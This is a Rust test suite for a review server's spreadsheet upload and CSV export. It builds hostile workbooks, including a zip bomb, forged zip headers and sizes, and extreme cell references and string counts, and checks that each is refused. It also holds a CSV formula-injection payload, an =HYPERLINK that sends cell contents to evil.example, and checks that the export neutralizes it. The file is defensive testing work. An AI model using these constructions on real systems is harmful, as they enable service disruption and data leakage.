//! Hostile uploads and exports: workbooks built here with the `zip` crate
//! (a huge declared `uniqueCount`, cells at XFD1048576, zip bombs, sizes that
//! lie) are refused with 413 or 422 and a clear message, after the uploader's
//! rights and the cycle were checked, and the server keeps answering; CSV
//! cells that would open as formulas are neutralized, and come back exact.

use std::io::{Cursor, Write};

use serde_json::{json, Value};

use crate::backend_tests;
use crate::common::{Backend, Options};
use crate::files::{csv_rows, demo, demo_with, Demo, TEMPLATE};

const XLSX: &str = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet";
const MAIN: &str = "http://schemas.openxmlformats.org/spreadsheetml/2006/main";

/// A zip archive of these entries, deflated.
fn zip_of(entries: &[(&str, Vec<u8>)]) -> Vec<u8> {
    let mut w = zip::ZipWriter::new(Cursor::new(Vec::new()));
    let opts = zip::write::SimpleFileOptions::default()
        .compression_method(zip::CompressionMethod::Deflated);
    for (name, body) in entries {
        w.start_file(*name, opts).expect("entry");
        w.write_all(body).expect("write");
    }
    w.finish().expect("zip").into_inner()
}

/// A one-sheet workbook: `sheet_data` inside `<sheetData>`, and a shared-strings part if given.
fn workbook(sheet_data: &str, shared: Option<Vec<u8>>) -> Vec<u8> {
    let mut entries = vec![
        (
            "[Content_Types].xml",
            br#"<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/></Types>"#.to_vec(),
        ),
        (
            "xl/workbook.xml",
            format!(r#"<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="{MAIN}" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>"#).into_bytes(),
        ),
        (
            "xl/_rels/workbook.xml.rels",
            br#"<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>"#.to_vec(),
        ),
        (
            "xl/worksheets/sheet1.xml",
            format!(r#"<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="{MAIN}"><sheetData>{sheet_data}</sheetData></worksheet>"#).into_bytes(),
        ),
    ];
    if let Some(s) = shared {
        entries.push(("xl/sharedStrings.xml", s));
    }
    zip_of(&entries)
}

fn inline(r: &str, text: &str) -> String {
    format!(r#"<c r="{r}" t="inlineStr"><is><t>{text}</t></is></c>"#)
}

/// The template's heading row and one comment, as inline strings.
fn heading_and_comment() -> String {
    format!(
        r#"<row r="1">{}{}{}</row><row r="2">{}{}{}</row>"#,
        inline("A1", "Clause"),
        inline("B1", "Type of comment"),
        inline("C1", "Comment"),
        inline("A2", "General"),
        inline("B2", "ge"),
        inline("C2", "From a hand-made workbook."),
    )
}

/// Shared strings with these attributes on `<sst>` and these strings.
fn shared_strings(attrs: &str, strings: &[&str]) -> Vec<u8> {
    let mut s = format!(r#"<?xml version="1.0" encoding="UTF-8"?><sst xmlns="{MAIN}" {attrs}>"#);
    for t in strings {
        s.push_str(&format!("<si><t>{t}</t></si>"));
    }
    s.push_str("</sst>");
    s.into_bytes()
}

/// Text that deflates about 4 to 1 (four letters, no pattern), for size caps.
fn noise(len: usize) -> String {
    let mut x: u64 = 0x2545_f491_4f6c_dd1d;
    (0..len)
        .map(|_| {
            x ^= x << 13;
            x ^= x >> 7;
            x ^= x << 17;
            [b'a', b'c', b'g', b't'][(x >> 33) as usize % 4] as char
        })
        .collect()
}

/// Make every header of entry `name` declare `size` uncompressed bytes.
fn lie_about_size(zip: &mut [u8], name: &str, size: u32) {
    let mut i = 0;
    while i + 46 < zip.len() {
        let sig = &zip[i..i + 4];
        let (name_len_at, name_at, size_at) = if sig == b"PK\x03\x04" {
            (26, 30, 22)
        } else if sig == b"PK\x01\x02" {
            (28, 46, 24)
        } else {
            i += 1;
            continue;
        };
        let n = u16::from_le_bytes([zip[i + name_len_at], zip[i + name_len_at + 1]]) as usize;
        if zip.get(i + name_at..i + name_at + n) == Some(name.as_bytes()) {
            zip[i + size_at..i + size_at + 4].copy_from_slice(&size.to_le_bytes());
        }
        i += 4;
    }
}

fn message(body: &Value) -> String {
    body["errors"][0]["message"]
        .as_str()
        .unwrap_or_else(|| panic!("no error message in {body}"))
        .to_owned()
}

/// Post a hostile file as Kenya to the open cycle: status, code, message.
async fn refused(d: &Demo, file: Vec<u8>) -> (u16, String, String) {
    let (status, body) = d.upload(Some(&d.kenya), &d.open_cycle, XLSX, file).await;
    let code = body["errors"][0]["extensions"]["code"]
        .as_str()
        .unwrap_or_default()
        .to_owned();
    (status, code, message(&body))
}

/// The server is up and imports a good file.
async fn still_serves(d: &Demo) {
    let before = d.count(&d.open_cycle).await;
    let (status, body) = d
        .upload(
            Some(&d.kenya),
            &d.open_cycle,
            XLSX,
            workbook(&heading_and_comment(), None),
        )
        .await;
    assert_eq!(status, 201, "a hand-made workbook imports: {body}");
    assert_eq!(d.count(&d.open_cycle).await, before + 1);
}

async fn hostile_workbooks_are_refused_and_the_server_stays_up(b: Backend) {
    let Some(d) = demo(b).await else { return };
    let before = d.count(&d.open_cycle).await;

    // 1.9 KB that used to make calamine reserve 2.4 TB of strings.
    let huge_count = workbook(
        r#"<row r="1"><c r="A1" t="s"><v>0</v></c></row>"#,
        Some(shared_strings(
            r#"count="100000000000" uniqueCount="100000000000""#,
            &["Clause"],
        )),
    );
    assert!(huge_count.len() < 4096);
    let (status, code, msg) = refused(&d, huge_count).await;
    assert_eq!((status, code.as_str()), (422, "VALIDATION"), "{msg}");
    assert_eq!(
        msg,
        "the workbook declares 100000000000 shared strings: at most 320064 for 5000 comments of 64 columns"
    );

    // Two cells, A1 and XFD1048576: a dense range of 17 billion cells.
    let corners = workbook(
        &format!(
            r#"<row r="1">{}</row><row r="1048576">{}</row>"#,
            inline("A1", "Clause"),
            inline("XFD1048576", "x")
        ),
        None,
    );
    let (status, code, msg) = refused(&d, corners).await;
    assert_eq!((status, code.as_str()), (422, "VALIDATION"), "{msg}");
    assert_eq!(
        msg,
        "the sheet has a cell in row 1048576: at most 5000 comments per upload (rows 2 to 5001)"
    );
    let wide = workbook(
        &format!(
            r#"<row r="1">{}{}</row>"#,
            inline("A1", "Clause"),
            inline("XFD1", "x")
        ),
        None,
    );
    let (status, _, msg) = refused(&d, wide).await;
    assert_eq!(status, 422, "{msg}");
    assert_eq!(
        msg,
        "the sheet has a cell in column XFD: the comments template has at most 64 columns (A to BL)"
    );
    // The same by a declared dimension alone.
    let dimension = zip_of(&[
        ("xl/workbook.xml", format!(r#"<workbook xmlns="{MAIN}"/>"#).into_bytes()),
        (
            "xl/worksheets/sheet1.xml",
            format!(r#"<worksheet xmlns="{MAIN}"><dimension ref="A1:XFD1048576"/><sheetData/></worksheet>"#).into_bytes(),
        ),
    ]);
    let (status, _, msg) = refused(&d, dimension).await;
    assert_eq!(status, 422, "{msg}");
    assert!(msg.contains("row 1048576"), "{msg}");
    // Rows without references count as calamine counts them.
    let mut rows = heading_and_comment();
    for _ in 0..5000 {
        rows.push_str(r#"<row><c t="inlineStr"><is><t>ge</t></is></c></row>"#);
    }
    let (status, _, msg) = refused(&d, workbook(&rows, None)).await;
    assert_eq!(status, 422, "{msg}");
    assert!(
        msg.contains("row 5002: at most 5000 comments per upload"),
        "{msg}"
    );

    // A zip bomb: 40 MB of nothing in a few kilobytes.
    let mut bomb = format!(r#"<sst xmlns="{MAIN}">"#);
    bomb.push_str(&" ".repeat(40 * 1024 * 1024));
    bomb.push_str("</sst>");
    let file = workbook(&heading_and_comment(), Some(bomb.into_bytes()));
    assert!(file.len() < 200 * 1024, "{} bytes", file.len());
    let (status, code, msg) = refused(&d, file).await;
    assert_eq!((status, code.as_str()), (413, "PAYLOAD_TOO_LARGE"), "{msg}");
    assert!(
        msg.starts_with("'xl/sharedStrings.xml' in the XLSX workbook expands 41943")
            && msg.ends_with("more than 100 to 1, refused as a zip bomb"),
        "{msg}"
    );

    // An archive declaring more entries than a workbook has.
    let mut many = workbook(&heading_and_comment(), None);
    let eocd = many
        .windows(4)
        .rposition(|w| w == b"PK\x05\x06")
        .expect("end record");
    many[eocd + 8..eocd + 12].copy_from_slice(&[0xff, 0xff, 0xff, 0xff]);
    let (status, code, msg) = refused(&d, many).await;
    assert_eq!((status, code.as_str()), (413, "PAYLOAD_TOO_LARGE"), "{msg}");
    assert_eq!(msg, "the XLSX workbook declares 65535 files: at most 1000");

    // CSV is held to the same columns.
    let wide_csv = format!("Clause,Type of comment,Comment{}\n", ",".repeat(100));
    let (status, body) = d
        .upload(
            Some(&d.kenya),
            &d.open_cycle,
            "text/csv",
            wide_csv.into_bytes(),
        )
        .await;
    assert_eq!(status, 422);
    assert_eq!(
        message(&body),
        "the comments template has at most 64 columns (A to BL)"
    );

    assert_eq!(d.count(&d.open_cycle).await, before, "nothing was written");
    still_serves(&d).await;
}

async fn expanded_size_is_capped_whatever_the_headers_say(b: Backend) {
    let mut opts = Options::default();
    opts.limits.max_upload_expanded_bytes = 8 * 1024 * 1024;
    opts.limits.max_upload_zip_ratio = 1_000_000;
    let Some(d) = demo_with(b, opts).await else {
        return;
    };
    let before = d.count(&d.open_cycle).await;
    let big_sheet = format!(
        "<!-- {} -->{}",
        noise(9 * 1024 * 1024),
        heading_and_comment()
    );
    let file = workbook(&big_sheet, None);
    assert!(file.len() < 4 * 1024 * 1024, "under the upload limit");
    let (status, code, msg) = refused(&d, file.clone()).await;
    assert_eq!((status, code.as_str()), (413, "PAYLOAD_TOO_LARGE"), "{msg}");
    assert_eq!(
        msg,
        "the XLSX workbook expands to more than 8388608 bytes (at 'xl/worksheets/sheet1.xml'): refused"
    );
    // Headers that claim 100 bytes change nothing: the entry is read through the cap.
    let mut liar = file;
    lie_about_size(&mut liar, "xl/worksheets/sheet1.xml", 100);
    let (status, code, msg) = refused(&d, liar).await;
    assert_eq!((status, code.as_str()), (413, "PAYLOAD_TOO_LARGE"), "{msg}");
    assert!(
        msg.starts_with("the XLSX workbook expands to more than 8388608 bytes"),
        "{msg}"
    );

    // Shared strings past what 5,000 rows of 64 columns need, none declared.
    let strings = vec!["a"; 330_000];
    let file = workbook(&heading_and_comment(), Some(shared_strings("", &strings)));
    let (status, code, msg) = refused(&d, file).await;
    assert_eq!((status, code.as_str()), (422, "VALIDATION"), "{msg}");
    assert_eq!(
        msg,
        "the workbook holds more than 320064 shared strings: at most that many for 5000 comments of 64 columns"
    );
    assert_eq!(d.count(&d.open_cycle).await, before);
    still_serves(&d).await;
}

async fn rights_and_cycle_are_checked_before_the_file_is_read(b: Backend) {
    let Some(d) = demo(b).await else { return };
    let hostile = workbook(
        r#"<row r="1"><c r="A1" t="s"><v>0</v></c></row>"#,
        Some(shared_strings(r#"uniqueCount="100000000000""#, &["Clause"])),
    );
    let not_xml = b"PK\x03\x04 not really a zip".to_vec();
    for file in [hostile, not_xml] {
        // Anonymous.
        let (status, body) = d.upload(None, &d.open_cycle, XLSX, file.clone()).await;
        assert_eq!(status, 401, "{body}");
        assert_eq!(body["errors"][0]["extensions"]["code"], "UNAUTHENTICATED");
        // An unknown cycle, and an id that is not a cycle's.
        for cycle in ["UmV2aWV3Q3ljbGU6OTk5", d.eenv_rev2.as_str()] {
            let (status, body) = d.upload(Some(&d.kenya), cycle, XLSX, file.clone()).await;
            assert_eq!(status, 404, "{body}");
            assert_eq!(message(&body), "review cycle not found");
        }
        // A cycle that takes no comments.
        let (status, body) = d
            .upload(Some(&d.kenya), &d.done_cycle, XLSX, file.clone())
            .await;
        assert_eq!(status, 409, "{body}");
        assert_eq!(body["errors"][0]["extensions"]["code"], "CYCLE_CLOSED");
    }
    still_serves(&d).await;
}

const INJECTION: &str = r#"=HYPERLINK("http://evil.example/?leak="&A2&B2,"Click")"#;

async fn csv_cells_never_open_as_formulas_and_round_trip(b: Backend) {
    let Some(d) = demo(b).await else { return };
    let submit =
        "mutation($i: SubmitCommentInput!) { submitComment(input: $i) { comment { id } } }";
    let cases = [
        (INJECTION, "-1 point"),
        ("+33 1 23 45 67 89", "@SUM(A1:A9)"),
        ("'=already quoted", "'tis plain"),
    ];
    for (body, proposed) in cases {
        d.s.ok(
            Some(&d.kenya),
            submit,
            json!({ "i": { "cycleId": d.open_cycle, "anchor": { "kind": "DOCUMENT" }, "type": "GENERAL", "body": body, "proposedChange": proposed } }),
        )
        .await;
    }
    let path = format!("/exports/cycles/{}/comments.csv", d.open_cycle);
    let (status, _, csv) = d.get(Some(&d.kenya), &path).await;
    assert_eq!(status, 200);
    let rows = csv_rows(&csv);
    let row_of = |body: &str| {
        rows.iter()
            .find(|r| r[5].trim_start_matches('\'') == body.trim_start_matches('\''))
            .unwrap_or_else(|| panic!("no row for {body}: {rows:?}"))
            .clone()
    };
    let hyperlink = row_of(INJECTION);
    assert_eq!(hyperlink[5], format!("'{INJECTION}"), "text, not a formula");
    assert_eq!(hyperlink[6], "'-1 point");
    let phone = row_of("+33 1 23 45 67 89");
    assert_eq!(phone[5], "'+33 1 23 45 67 89");
    assert_eq!(phone[6], "'@SUM(A1:A9)");
    let quoted = row_of("'=already quoted");
    assert_eq!(quoted[5], "''=already quoted");
    assert_eq!(quoted[6], "'tis plain", "plain text is left alone");
    for r in &rows {
        for cell in r {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a live formula in {r:?}"
            );
        }
    }

    // The export's rows, uploaded again, come back exactly as written.
    let mut w = csv::Writer::from_writer(Vec::new());
    w.write_record(&rows[0]).expect("csv");
    for r in [&hyperlink, &phone, &quoted] {
        w.write_record(r).expect("csv");
    }
    let upload = w.into_inner().expect("csv");
    let (status, body) = d
        .upload(Some(&d.kenya), &d.open_cycle, "text/csv", upload)
        .await;
    assert_eq!(status, 201, "{body}");
    let ids: Vec<Value> = body["comments"]
        .as_array()
        .expect("list")
        .iter()
        .map(|c| c["id"].clone())
        .collect();
    let q = "query($ids: [ID!]!) { nodes(ids: $ids) { ... on Comment { body proposedChange } } }";
    let nodes = d.s.ok(Some(&d.kenya), q, json!({ "ids": ids })).await["nodes"].clone();
    let back: Vec<(String, String)> = nodes
        .as_array()
        .expect("nodes")
        .iter()
        .map(|n| {
            (
                n["body"].as_str().expect("body").to_owned(),
                n["proposedChange"].as_str().expect("proposed").to_owned(),
            )
        })
        .collect();
    let want: Vec<(String, String)> = cases
        .iter()
        .map(|(b, p)| (b.to_string(), p.to_string()))
        .collect();
    assert_eq!(back, want);
    // The ordinary template is untouched by the guard.
    let (status, _) = d
        .upload(
            Some(&d.kenya),
            &d.open_cycle,
            "text/csv",
            TEMPLATE.as_bytes().to_vec(),
        )
        .await;
    assert_eq!(status, 201);
}

backend_tests!(
    hostile_workbooks_are_refused_and_the_server_stays_up,
    expanded_size_is_capped_whatever_the_headers_say,
    rights_and_cycle_are_checked_before_the_file_is_read,
    csv_cells_never_open_as_formulas_and_round_trip,
);
